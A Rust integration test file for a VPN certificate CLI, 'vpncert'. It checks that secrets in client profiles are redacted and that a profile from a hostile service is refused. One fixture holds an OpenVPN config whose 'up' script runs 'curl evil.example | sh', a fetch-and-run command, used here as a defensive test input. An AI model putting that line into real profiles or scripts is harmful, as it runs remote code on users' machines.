//! What a hostile or impersonated service can get out of `vpncert`: nothing on the terminal, in
//! the profiles it writes, or in the secrets it prints.

mod common;

use common::hostile::{bundle_json, Hostile};
use common::{run, Sandbox, SERVER};

const CERT: &str = "vsc-hostile0001";

#[test]
fn show_without_with_key_prints_no_secret_block_of_the_profile() {
    let config = "client\nremote vpn.example.com 1194\n<pkcs12>\nPKCS12SECRET\n</pkcs12>\n\
        <auth-user-pass>\nalice\nPASSWORDSECRET\n</auth-user-pass>\n\
        <key>\n-----BEGIN PRIVATE KEY-----\nKEYSECRET\n-----END PRIVATE KEY-----\n</key>\nverb 3\n";
    let api = Hostile::start(&[(
        "DescribeSslVpnClientCert",
        bundle_json(CERT, SERVER, "alice", config),
    )]);
    let sb = Sandbox::new();
    for format in ["json", "table"] {
        let r = run(sb.cli(&api.url).args(["--output", format, "show", CERT]));
        r.assert_code(0);
        for secret in [
            "PKCS12SECRET",
            "PASSWORDSECRET",
            "KEYSECRET",
            "THEPRIVATEKEY",
        ] {
            assert!(
                !r.stdout.contains(secret),
                "{format}: {secret} in\n{}",
                r.stdout
            );
            assert!(
                !r.stderr.contains(secret),
                "{format}: {secret} in\n{}",
                r.stderr
            );
        }
    }
    let shown = run(sb.cli(&api.url).args(["--output", "json", "show", CERT])).json();
    let profile = shown["client_config"].as_str().unwrap();
    assert!(
        profile.contains("<pkcs12>\n<redacted>\n</pkcs12>\n"),
        "{profile}"
    );
    assert!(
        profile.contains("remote vpn.example.com 1194\n"),
        "{profile}"
    );

    let with_key = run(sb
        .cli(&api.url)
        .args(["--output", "json", "show", CERT, "--with-key"]));
    with_key.assert_code(0);
    assert!(with_key.stdout.contains("PKCS12SECRET") && with_key.stdout.contains("THEPRIVATEKEY"));
}

const HOSTILE_CONFIG: &str = "client\ndev tun\nremote 47.1.2.3 1194\nscript-security 2\nup \"/bin/sh -c 'curl evil.example | sh'\"\nverb 3\n";

fn created(name: &str) -> String {
    format!(r#"{{"RequestId":"R-create","Name":"{name}","SslVpnClientCertId":"{CERT}"}}"#)
}

/// Every file under `dir`, as paths relative to it.
fn files_under(dir: &std::path::Path) -> Vec<String> {
    let mut out = Vec::new();
    let mut stack = vec![dir.to_path_buf()];
    while let Some(d) = stack.pop() {
        for e in std::fs::read_dir(&d).unwrap() {
            let p = e.unwrap().path();
            if p.is_dir() {
                stack.push(p);
            } else {
                out.push(p.strip_prefix(dir).unwrap().display().to_string());
            }
        }
    }
    out.sort();
    out
}

#[test]
fn a_profile_that_would_run_a_program_is_refused_and_nothing_is_written() {
    let api = Hostile::start(&[
        ("CreateSslVpnClientCert", created("alice")),
        (
            "DescribeSslVpnClientCert",
            bundle_json(CERT, SERVER, "alice", HOSTILE_CONFIG),
        ),
    ]);
    let sb = Sandbox::new();
    std::fs::write(sb.join("people.txt"), "alice\n").unwrap();
    let before = files_under(sb.path());

    let issue = run(sb
        .cli(&api.url)
        .args(["issue", "--server", SERVER, "--name", "alice"]));
    issue.assert_code(1);
    for want in [
        "ClientConfig",
        "line 4",
        "`script-security`",
        CERT,
        "no profile was written",
    ] {
        assert!(
            issue.stderr.contains(want),
            "{want:?} missing from {}",
            issue.stderr
        );
    }

    let show = run(sb.cli(&api.url).args(["show", CERT, "--out", "alice.ovpn"]));
    show.assert_code(1);
    assert!(show.stderr.contains("ClientConfig"), "{}", show.stderr);

    let bulk = run(sb.cli(&api.url).args([
        "--output",
        "json",
        "issue",
        "--server",
        SERVER,
        "--names-from",
        "people.txt",
        "--out-dir",
        "profiles",
    ]));
    bulk.assert_code(1);
    let s = bulk.json();
    assert_eq!(s["results"][0]["result"], "failed", "{s}");
    assert!(s["results"][0]["error"]["message"]
        .as_str()
        .unwrap()
        .contains("ClientConfig"));

    let mut after = files_under(sb.path());
    after.retain(|f| !before.contains(f));
    assert!(after.is_empty(), "nothing written: {after:?}");
}
